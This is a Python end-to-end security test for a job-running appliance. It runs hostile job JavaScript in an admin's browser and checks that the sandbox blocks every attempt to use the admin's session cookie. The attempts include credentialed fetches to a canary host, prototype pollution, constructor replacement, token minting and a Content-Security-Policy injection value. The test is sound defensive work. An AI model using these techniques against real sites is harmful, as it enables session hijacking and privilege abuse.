"""Job code is hostile: in real Chromium, an admin signed in to the dashboard runs a worker tab in the
same browser, and another account's job tries every way out to act as the admin.

A canary server on the appliance's host (another port: cookies know no ports, and the two are the same
site) stands in for any endpoint a request of job code could reach with the admin's cookie. It is on
the fetch allow-list, so the Content-Security-Policy lets job code reach it: only the sandbox keeps
the cookie away. The same browser, sent to it, shows that the cookie would go.
"""

from __future__ import annotations

import json

import httpx
import pytest
from playwright.sync_api import expect

from tests.support import ADMIN_EMAIL, ADMIN_PASSWORD, QuietHandler, save_and_run, serve_in_thread, wait_for_run

pytestmark = pytest.mark.e2e


class Canary(QuietHandler):
    """Records every request's path, method and Cookie header; answers anyone (CORS) with 200."""

    seen: list[tuple[str, str, str]] = []

    def _record(self):
        self.seen.append((self.command, self.path, self.headers.get("cookie") or ""))
        self.reply(200, b"ok", headers={"access-control-allow-origin": "*"})

    do_GET = do_POST = do_PUT = do_HEAD = _record


@pytest.fixture(scope="module")
def canaries():
    """An allowed canary and one not on the allow-list."""
    allowed, allowed_origin = serve_in_thread(Canary)
    other, other_origin = serve_in_thread(Canary)
    yield allowed_origin, other_origin
    allowed.shutdown()
    other.shutdown()


@pytest.fixture(scope="module")
def appliance(canaries, appliance_with):
    return appliance_with(fetch_origins=canaries[0])


ATTACKS = r"""async function map(x) {
  const out = {};
  const attempt = async (name, fn) => {
    try { out[name] = 'allowed: ' + JSON.stringify(await fn()); } catch (e) { out[name] = `refused: ${e?.message}`; }
  };
  const canary = path => `${CANARY}/${path}`;
  const status = response => response.status;
  const include = {credentials: 'include'};
  const NativeRequest = Request, NativeURL = URL;

  // Credentials asked for outright.
  await attempt('include', async () => status(await fetch(canary('include'), include)));
  await attempt('request include', async () => status(await fetch(new Request(canary('request'), include))));
  await attempt('no-cors', async () => status(await fetch(canary('no-cors'), {...include, mode: 'no-cors'})));
  const forged = {headers: {cookie: 'peermr_session=forged'}};
  await attempt('cookie header', async () => status(await fetch(canary('cookie-header'), forged)));

  // Replaced constructors, getters and prototypes.
  self.Request = function (input, init) { return new NativeRequest(input, {...init, credentials: 'include'}); };
  await attempt('replaced Request', async () => status(await fetch(canary('replaced-request'))));
  self.Request = NativeRequest;
  self.URL = class extends NativeURL { get origin() { return CANARY; } };
  await attempt('replaced URL', async () => status(await fetch(OTHER + '/replaced-url')));
  self.URL = NativeURL;
  const includes = Array.prototype.includes, has = Set.prototype.has;
  Array.prototype.includes = () => true;
  Set.prototype.has = () => true;
  await attempt('replaced includes', async () => status(await fetch(OTHER + '/replaced-includes')));
  Array.prototype.includes = includes;
  Set.prototype.has = has;
  const method = Object.getOwnPropertyDescriptor(Request.prototype, 'method');
  Object.defineProperty(Request.prototype, 'method', {get: () => 'GET', configurable: true});
  await attempt('method getter', async () => status(await fetch(canary('method-getter'), {method: 'POST', body: 'x'})));
  Object.defineProperty(Request.prototype, 'method', method);
  Object.prototype.credentials = 'include';
  Object.prototype.method = 'POST';
  Object.prototype.body = 'polluted';
  await attempt('polluted Object.prototype', async () => status(await fetch(canary('polluted'))));
  delete Object.prototype.credentials; delete Object.prototype.method; delete Object.prototype.body;
  const call = Function.prototype.call, apply = Function.prototype.apply;
  Function.prototype.call = Function.prototype.apply = function () { return CANARY; };
  await attempt('replaced call', async () => status(await fetch(canary('replaced-call'), {credentials: 'include'})));
  Function.prototype.call = call;
  Function.prototype.apply = apply;
  await attempt('eval', async () => status(await (0, eval)('fetch')(canary('eval'), include)));
  await attempt('Function', async () => status(await Function('return fetch')()(canary('function'), include)));
  await attempt('native fetch', async () => {
    const native = WorkerGlobalScope.prototype.fetch || Object.getPrototypeOf(self).fetch;
    return status(await native.call(self, canary('native'), {credentials: 'include'}));
  });

  // The appliance itself, as the employee.
  const asStranger = async path => {
    const response = await fetch(APPLIANCE + path, {credentials: 'include'});
    return {status: response.status, at: response.url.replace(APPLIANCE, '')};
  };
  await attempt('dashboard page', () => asStranger('/ui/tokens'));
  await attempt('API', () => asStranger('/api/v1/me'));
  await attempt('ICE servers', () => asStranger('/worker/ice-servers'));
  const mint = {method: 'POST', body: 'name=x'};
  await attempt('mint a token', async () => status(await fetch(APPLIANCE + '/ui/tokens', mint)));

  // Other ways out.
  await attempt('WebSocket', () => new WebSocket(APPLIANCE.replace('http', 'ws') + '/ws/worker'));
  await attempt('WebSocketStream', () => new WebSocketStream(APPLIANCE.replace('http', 'ws') + '/ws/worker'));
  await attempt('locks', () => navigator.locks.request('peermr', () => 1));
  await attempt('indexedDB', () => indexedDB.open('peermr'));
  await attempt('caches', () => caches.open('peermr'));
  await attempt('Worker', () => new Worker(APPLIANCE + '/static/worker/sandbox.js'));
  await attempt('importScripts', () => importScripts(APPLIANCE + '/static/worker/codecs.js'));
  await attempt('import data:', async () => (await import('data:text/javascript,export default 1')).default);
  await attempt('import blob:', async () => {
    const url = URL.createObjectURL(new Blob(['export default 1'], {type: 'text/javascript'}));
    return (await import(url)).default;
  });
  await attempt('postMessage', () => postMessage({type: 'log', level: 'info', text: 'forged', at: 0}));
  context.emit('attempts', out);
  await context.onComplete();
}"""

JOB = """const execution = new JobExecution('pmrfs');
execution.workerCount = 1;
execution.setInputFn(async function input() { return [0]; });
execution.addStage(new MapStage(MAP));
execution.start(jobRunner);
"""

CONTROL = ("/control", "/favicon.ico")  # the browser's own visit to the canary
REFUSED = [
    "replaced URL",
    "replaced includes",
    "method getter",
    "mint a token",
    "WebSocket",
    "WebSocketStream",
    "locks",
    "indexedDB",
    "caches",
    "Worker",
    "importScripts",
    "import data:",
    "import blob:",
    "postMessage",
    "native fetch",
]
# GETs to an allowed origin go out, as they should, only without credentials.
ALLOWED = [
    "include",
    "request include",
    "cookie header",
    "replaced Request",
    "polluted Object.prototype",
    "replaced call",
    "eval",
    "Function",
]


def test_job_code_in_a_signed_in_admins_browser_cannot_act_as_the_admin(appliance, canaries, chromium):
    canary, other = canaries
    appliance.add_user("mallory@example.com", "coordinator", "mallory-password-1")
    token = appliance.cli("token", "create", "mallory@example.com").stdout.strip().split()[-1]
    tokens_before = appliance.query("SELECT count(*) FROM accounts_api_token")
    context = chromium.new_context()
    try:
        dashboard = context.new_page()
        dashboard.goto(f"{appliance.url}/login")
        dashboard.get_by_label("Email").fill(ADMIN_EMAIL)
        dashboard.get_by_label("Password").fill(ADMIN_PASSWORD)
        dashboard.get_by_role("button", name="Sign in").click()
        expect(dashboard.get_by_role("heading", name="Overview", exact=True)).to_be_visible()
        [session] = [c["value"] for c in context.cookies() if c["name"] == "peermr_session"]
        worker = context.new_page()
        worker.goto(f"{appliance.url}/worker")
        expect(worker.locator("#connection")).to_have_text("connected", timeout=60_000)

        # The control: the browser itself, going to the canary, sends the admin's cookie.
        context.new_page().goto(f"{canary}/control")
        assert any(path in CONTROL and session in cookie for _, path, cookie in Canary.seen)

        with httpx.Client(base_url=f"{appliance.url}/api/v1", headers={"authorization": f"Bearer {token}"}) as api:
            script = JOB.replace("MAP", ATTACKS).replace("CANARY", json.dumps(canary))
            script = script.replace("OTHER", json.dumps(other)).replace("APPLIANCE", json.dumps(appliance.url))
            run_id = save_and_run(api, "attacks", script)
            run = wait_for_run(api, run_id)
            assert run["state"] == "succeeded", run["reason"]
            [line] = api.get(f"/runs/{run_id}/output").text.splitlines()
        # The task ran in a frame of the worker page loaded without credentials.
        frames = worker.evaluate("[...document.querySelectorAll('iframe')].map(frame => frame.credentialless)")
    finally:
        context.close()

    key, out = json.loads(line)
    assert key == "attempts"
    assert frames and all(frames)
    for name in REFUSED:
        assert out[name].startswith("refused: "), (name, out[name])
    for name in ALLOWED:
        assert out[name] == "allowed: 200", (name, out[name])
    assert out["no-cors"] == "allowed: 0"  # an opaque response, as no-cors gives
    assert (
        out["replaced URL"]
        == out["replaced includes"]
        == (f"refused: fetch to {other} is not allowed by this appliance (allowed: {appliance.url}, {canary})")
    )
    # The appliance answers the sandbox as it answers a stranger.
    assert json.loads(out["dashboard page"].removeprefix("allowed: ")) == {
        "status": 200,
        "at": "/login?next=%2Fui%2Ftokens",
    }
    assert json.loads(out["API"].removeprefix("allowed: "))["status"] == 401
    assert json.loads(out["ICE servers"].removeprefix("allowed: "))["status"] == 401
    assert out["method getter"] == "refused: fetch: only GET is allowed in jobs"
    assert (
        out["postMessage"]
        == "refused: postMessage is not available to job code: it reaches the page through context only"
    )

    # No request of job code carried the admin's cookie, or any write; nothing reached the other origin.
    from_job = [(method, path, cookie) for method, path, cookie in Canary.seen if path not in CONTROL]
    assert len(from_job) >= len(ALLOWED) + 1
    assert all(cookie == "" for _, _, cookie in from_job), from_job  # no cookie at all, the CSRF one neither
    assert {method for method, _, _ in from_job} <= {"GET"}
    assert not {"/replaced-url", "/replaced-includes"} & {path for _, path, _ in from_job}
    assert appliance.query("SELECT count(*) FROM accounts_api_token") == tokens_before


def test_a_sandbox_frame_takes_only_origins_into_its_policy(appliance, canaries):
    canary, _ = canaries
    frame = httpx.get(f"{appliance.url}/worker/sandbox.html", params={"connect": canary})
    assert frame.status_code == 200
    policy = frame.headers["content-security-policy"]
    assert f"connect-src {appliance.url} {canary};" in policy
    assert f"frame-ancestors {appliance.url}" in policy and "worker-src blob:" in policy
    # A value that would add a directive of its own is not an origin.
    injected = httpx.get(f"{appliance.url}/worker/sandbox.html", params={"script": "https://a.example; script-src *"})
    assert injected.status_code == 400
    assert "is not an origin like https://data.example.com" in injected.text
